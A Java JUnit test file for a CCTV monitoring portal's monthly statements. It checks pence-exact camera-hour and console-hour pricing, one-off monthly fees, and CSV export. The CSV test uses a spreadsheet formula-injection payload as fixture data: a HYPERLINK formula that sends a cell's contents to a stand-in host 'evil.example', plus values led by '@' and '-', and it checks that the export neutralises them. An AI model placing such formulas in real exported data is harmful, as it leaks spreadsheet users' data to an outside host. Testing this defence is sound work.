package org.cctvportal.monitoring;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** The arithmetic of a statement: pence-exact lines, the total their sum, a monthly fee once. */
class StatementTest {

    private static Tariff tariff(Tariff.Basis basis, String rate) {
        Tariff tariff = new Tariff();
        tariff.basis = basis;
        tariff.rate = new BigDecimal(rate);
        tariff.customerKind = CustomerKind.PUBLIC;
        tariff.effectiveFrom = LocalDate.of(2026, 4, 1);
        return tariff;
    }

    private static Statement.Usage usage(long id, int cameras, long booked, long delivered) {
        return new Statement.Usage(id, "p", "Hub", 8, "group", cameras, CustomerKind.PUBLIC, booked, delivered);
    }

    @Test
    void cameraHoursArePricedToThePenny() {
        // 7 cameras x 9 h 20 min x 1.85 = 120.8666... -> 120.87
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 7, 560, 560),
                usage(2, 3, 480, 0)), k -> Optional.of(tariff(Tariff.Basis.CAMERA_HOUR, "1.85")));
        assertEquals(new BigDecimal("120.87"), s.lines().get(0).amount());
        assertEquals(new BigDecimal("0.00"), s.lines().get(1).amount());
        assertEquals(new BigDecimal("120.87"), s.total());
        assertEquals(new BigDecimal("9.33"), s.deliveredHours());
    }

    @Test
    void consoleHoursCountTheConsolesTheCamerasNeed() {
        // 17 cameras at 8 per operator need 3 consoles; 3 x 8 h x 22.50 = 540.00
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 17, 480, 480)),
                k -> Optional.of(tariff(Tariff.Basis.CONSOLE_HOUR, "22.50")));
        assertEquals(new BigDecimal("540.00"), s.total());
    }

    @Test
    void aMonthlyFeeIsChargedOnceWhenAnythingWasDelivered() {
        Statement s = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 4, 480, 480),
                usage(2, 4, 480, 480)), k -> Optional.of(tariff(Tariff.Basis.MONTHLY_FIXED, "950")));
        assertEquals(3, s.lines().size());
        assertEquals(new BigDecimal("950.00"), s.total());
        Statement none = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 4, 480, 0)),
                k -> Optional.of(tariff(Tariff.Basis.MONTHLY_FIXED, "950")));
        assertEquals(new BigDecimal("0.00"), none.total());
    }

    /** A camera group or partner name typed as a formula reaches the hub's spreadsheet as text, not as a formula. */
    @Test
    void theCsvNeutralisesEveryTextCell() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        Statement s = Statement.build("p", "@SUM(1+1)", YearMonth.of(2027, 1), List.of(new Statement.Usage(1, "p",
                "-Hub", 8, formula, 3, CustomerKind.PUBLIC, 480, 480)),
                k -> Optional.of(tariff(Tariff.Basis.CAMERA_HOUR, "1.85")));
        for (boolean totalsOnly : new boolean[] { false, true }) {
            String csv = new StatementService().csv(List.of(s), totalsOnly);
            try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
                    .get().parse(new java.io.StringReader(csv))) {
                for (var record : parser.getRecords()) {
                    for (String cell : record.values()) {
                        assertFalse(cell.matches("^[=+@\\t\\r].*") || cell.matches("^-[^0-9].*"), cell + " in " + csv);
                    }
                    assertEquals("'@SUM(1+1)", record.get("partner"));
                    if (!totalsOnly && !record.get("reference").equals("Total")) {
                        assertEquals("'" + formula, record.get("camera_group"));
                        assertEquals("'-Hub", record.get("hub"));
                    }
                }
            }
        }
    }
}
